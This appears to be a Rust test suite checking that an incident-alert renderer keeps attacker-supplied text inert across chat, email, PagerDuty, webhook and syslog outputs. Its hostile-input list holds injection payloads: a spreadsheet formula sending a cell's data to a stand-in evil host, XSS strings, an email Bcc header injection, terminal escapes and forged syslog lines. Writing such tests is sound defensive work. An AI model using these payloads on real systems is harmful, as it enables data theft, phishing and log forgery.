//! What an intruder wrote is text at every destination.

use crate::cards::{all, card, email, render, slack, syslog, teams, text};
use model::shown::is_hidden;
use proptest::prelude::*;
use serde_json::Value;
use sinks::{Card, Count, Destination, Reason, Transport};

/// What intruders put into names of rules, subjects, user agents and names of applications; invented.
const HOSTILE: [&str; 26] = [
    "=HYPERLINK(\"http://evil.example/?\"&A1,\"open\")<script>alert(1)</script>\u{202e}\u{0}",
    "<!channel> <!here> <!everyone> <@U012AB3CD> <#C012AB3CD>",
    "<https://evil.example|your bank>",
    "@everyone @channel @here",
    "[Pay now](http://evil.example) ![x](https://evil.example/x.png)",
    "**bold** _it_ `code` ~s~ # head",
    "- list\r\n1. item\n> quote",
    "<img src=x onerror=alert(1)>",
    "\"><svg/onload=alert(1)>",
    "' onmouseover='alert(1)",
    "</td></tr></table><a href=\"https://evil.example\">x</a>",
    "subject\r\nBcc: thief@evil.example\r\n\r\nbody",
    "\u{1b}[2J\u{1b}]8;;http://evil.example\u{7}click\u{1b}]8;;\u{7}",
    "{{ links.review }} {% for x in range(9) %}x{% endfor %} {{DATE(2017-02-14T06:00:00Z)}}",
    "${7*7} #{7*7} <%= 7 %>",
    "\"},{\"type\":\"Action.Submit\",\"x\":\"",
    "\\\" \\u0022 \\",
    "a|b=c\\d]e\"f",
    "] [evil@1 x=\"y\"] CEF:0|a|b|c",
    "<at>Alice</at> <at id=\"1\">Bob</at>",
    "www.evil.example and evil.example/login and mailto:x@evil.example",
    "\u{e000}\u{e001}\u{e001}[x](http://evil.example)\u{e000}",
    "admin\u{200b}istrator \u{2066}rtl\u{2069} \u{feff}",
    "javascript:alert(1) data:text/html,x vbscript:x",
    "&lt;script&gt; &amp;amp; &#60;b&#62;",
    "\n\n<134>1 2026-01-01T00:00:00Z fake fake - - - forged",
];

/// Returns a card in which every text of a record is that text.
fn card_of(bad: &str) -> Card {
    let mut card = card();
    card.tenant = text(bad);
    card.who = text(bad);
    card.headline = text(bad);
    card.local = text(bad);
    card.place.name = text(bad);
    card.place.network = text(bad);
    card.place.address = text(bad);
    card.place.uncertainty = text(bad);
    card.place.novelty = text(bad);
    card.place.usual = vec![text(bad), text(bad)];
    card.what = vec![text(bad)];
    card.why = vec![Reason {
        rule: text(bad),
        title: text(bad),
    }];
    card.attack = vec![text(bad)];
    card.so_far = vec![Count {
        what: text(bad),
        number: Some(1),
        note: text(bad),
    }];
    card.data.blind = vec![text(bad)];
    card.tags = vec![text(bad)];
    card
}

/// Walks over every text of a JSON value, with its key and the object that it stands in.
fn walk(value: &Value, key: &str, parent: &Value, see: &mut impl FnMut(&str, &str, &Value)) {
    match value {
        Value::String(text) => see(key, text, parent),
        Value::Array(all) => all.iter().for_each(|one| walk(one, key, parent, see)),
        Value::Object(fields) => {
            for (name, one) in fields {
                walk(one, name, value, see);
            }
        }
        _ => {}
    }
}

const OURS: [&str; 3] = [
    "https://ir.example.net/s/t0k_en-1?x=1&y=2",
    "https://ir.example.net/cases/42",
    "https://ir.example.net/incidents/42/expected",
];

fn is_inert(destination: &Destination, bad: &str) {
    let rendered = render(destination, &card_of(bad));
    assert_eq!(rendered.troubles, [], "{bad}");
    let preview = rendered.preview();
    let hidden = preview
        .chars()
        .find(|one| is_hidden(*one) && *one != '\n' && *one != '\u{feff}');
    assert_eq!(hidden, None, "{bad}: {preview}");
    match destination {
        Destination::Teams(_) => teams_is_inert(&preview, bad),
        Destination::Slack(_) => slack_is_inert(&preview, bad),
        Destination::Email(_) => mail_is_inert(&preview, bad),
        Destination::PagerDuty(_) => {
            let event: Value = serde_json::from_str(&preview).unwrap();
            assert_eq!(event["event_action"], "trigger");
            assert_eq!(event["links"].as_array().unwrap().len(), 3);
            nothing_links(&event);
        }
        Destination::Webhook(settings) => {
            let body: Value = serde_json::from_str(&preview).unwrap();
            if settings.ticket {
                nothing_links(&body);
            } else {
                assert_eq!(body["links"]["review"], OURS[0]);
            }
        }
        Destination::Syslog(settings) => {
            assert!(!preview.contains('\n'), "{preview}");
            if settings.cef {
                cef_is_whole(preview.strip_prefix("- ").unwrap());
            }
        }
    }
}

/// Asserts that no text but our own links holds what a client would make a link of.
fn nothing_links(value: &Value) {
    walk(value, "", value, &mut |key, text, _| {
        if OURS.contains(&text) || key == "$schema" {
            return;
        }
        // Whose mailbox it is stays to be read.
        let mut rest = text.to_lowercase().replace("@evil.example", "@");
        for ours in OURS {
            rest = rest.replace(&ours.replace('&', "&amp;"), "");
        }
        for bad in [
            "://",
            "evil.example",
            "www.e",
            "mailto:",
            "javascript:",
            "data:text",
            "vbscript:",
        ] {
            assert!(!rest.contains(bad), "{bad} in {key}: {text}");
        }
    });
}

fn teams_is_inert(preview: &str, bad: &str) {
    let message: Value = serde_json::from_str(preview).unwrap();
    let mut actions = 0;
    walk(&message, "", &message, &mut |key, text, parent| {
        match key {
            "url" => assert!(OURS.contains(&text), "{text}"),
            "type" => {
                let known = [
                    "message",
                    "AdaptiveCard",
                    "RichTextBlock",
                    "TextRun",
                    "Action.OpenUrl",
                ];
                assert!(known.contains(&text), "{text}");
                actions += usize::from(text == "Action.OpenUrl");
            }
            // Only where no Markdown is known stands what an intruder wrote.
            "text" => assert_eq!(parent["type"], "TextRun", "{bad}"),
            "title" => assert_eq!(parent["type"], "Action.OpenUrl", "{bad}"),
            _ => {}
        }
        assert!(!text.contains(['\u{e000}', '\u{e001}']), "{text}");
    });
    assert_eq!(actions, 3);
    nothing_links(&message["attachments"][0]["content"]["body"]);
}

fn slack_is_inert(preview: &str, bad: &str) {
    let message: Value = serde_json::from_str(preview).unwrap();
    let mut links = 0;
    walk(&message, "", &message, &mut |key, text, parent| {
        if key != "text" {
            return;
        }
        if parent["type"] == "mrkdwn" {
            assert_eq!(parent["verbatim"], true);
            links += text.matches('<').count();
        } else {
            assert!(!text.contains(['<', '>']), "{bad}: {text}");
        }
    });
    assert_eq!(links, 3);
    nothing_links(&message);
}

fn mail_is_inert(preview: &str, bad: &str) {
    let (head, html) = preview.split_once("\n--- HTML ---\n").unwrap();
    let mut lines = head.lines();
    assert!(lines.next().unwrap().starts_with("To: soc@"));
    assert!(lines.next().unwrap().starts_with("Subject: "));
    assert_eq!(lines.next(), Some(""), "{bad}: a header was injected");
    let plain = OURS
        .iter()
        .fold(head.to_owned(), |text, ours| text.replace(ours, ""));
    nothing_links(&Value::from(plain));
    // The tags of the page are those of the template.
    let calm = render(&email(25), &card_of("calm")).preview();
    let (_, calm) = calm.split_once("\n--- HTML ---\n").unwrap();
    for sign in ['<', '>', '"', '\''] {
        assert_eq!(
            html.matches(sign).count(),
            calm.matches(sign).count(),
            "{sign} {bad}: {html}"
        );
    }
    let ours = OURS.iter().fold(html.to_owned(), |text, ours| {
        text.replace(&ours.replace('&', "&amp;").replace('=', "&#61;"), "")
    });
    nothing_links(&Value::from(ours));
}

/// Asserts that a reader of CEF finds the seven fields of the header and our keys.
fn cef_is_whole(line: &str) {
    let mut fields = Vec::new();
    let (mut field, mut escaped) = (String::new(), false);
    for letter in line.chars() {
        if fields.len() < 7 && letter == '|' && !escaped {
            fields.push(std::mem::take(&mut field));
        } else {
            field.push(letter);
        }
        escaped = letter == '\\' && !escaped;
    }
    assert_eq!(fields.len(), 7, "{line}");
    assert_eq!(fields[4], "incident");
    let mut keys = Vec::new();
    let mut before = '\0';
    for (at, letter) in field.char_indices() {
        let slashes = field[..at]
            .chars()
            .rev()
            .take_while(|one| *one == '\\')
            .count();
        if letter == '=' && slashes % 2 == 0 {
            let key = field[..at].rsplit(' ').next().unwrap_or_default();
            keys.push(key.to_owned());
        }
        before = letter;
    }
    let _ = before;
    let known = [
        "externalId",
        "rt",
        "suser",
        "src",
        "act",
        "msg",
        "cs1Label",
        "cs1",
        "cs2Label",
        "cs2",
        "cs3Label",
        "cs3",
        "cs4Label",
        "cs4",
        "request",
        "cn1Label",
        "cn1",
    ];
    assert!(
        keys.iter().all(|key| known.contains(&key.as_str())),
        "{keys:?}: {line}"
    );
}

#[test]
fn hostile_texts_are_text_everywhere() {
    for bad in HOSTILE {
        for destination in all() {
            is_inert(&destination, bad);
        }
    }
}

#[test]
fn hidden_characters_are_marks_that_people_see() {
    for destination in [
        teams("https://x.invalid"),
        slack("https://x.invalid"),
        syslog(1, Transport::Tls, false),
    ] {
        let preview = render(&destination, &card_of("a\u{202e}b")).preview();
        assert!(preview.contains("U+202E"), "{preview}");
    }
}

#[test]
fn structured_data_is_one_element() {
    let bad = "x\"]\\ [y@1 z=\"1\"]";
    let line = render(&syslog(1, Transport::Tls, false), &card_of(bad)).preview();
    let (mut quoted, mut escaped, mut ends) = (false, false, Vec::new());
    for (at, letter) in line.char_indices() {
        match letter {
            '"' if !escaped => quoted = !quoted,
            ']' if !quoted => ends.push(at),
            _ => {}
        }
        escaped = letter == '\\' && !escaped;
    }
    // The first bracket outside of quotes ends the element, and the message follows it.
    let (data, message) = line.split_at(ends[0] + 1);
    assert!(data.starts_with("[breachscope@32473 incident="), "{data}");
    assert_eq!(data.matches(" who=\"").count(), 1);
    assert!(message.starts_with(" [HIGH] "), "{message}");
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(48))]
    #[test]
    fn any_text_is_inert(bad in "[<>&\"'`|=\\\\\\[\\](){}*_~#!@a-c:/. \\r\\n\u{202e}\u{200b}\u{e000}-\u{e001}é-]{0,60}") {
        for destination in all() {
            is_inert(&destination, &bad);
        }
    }
}
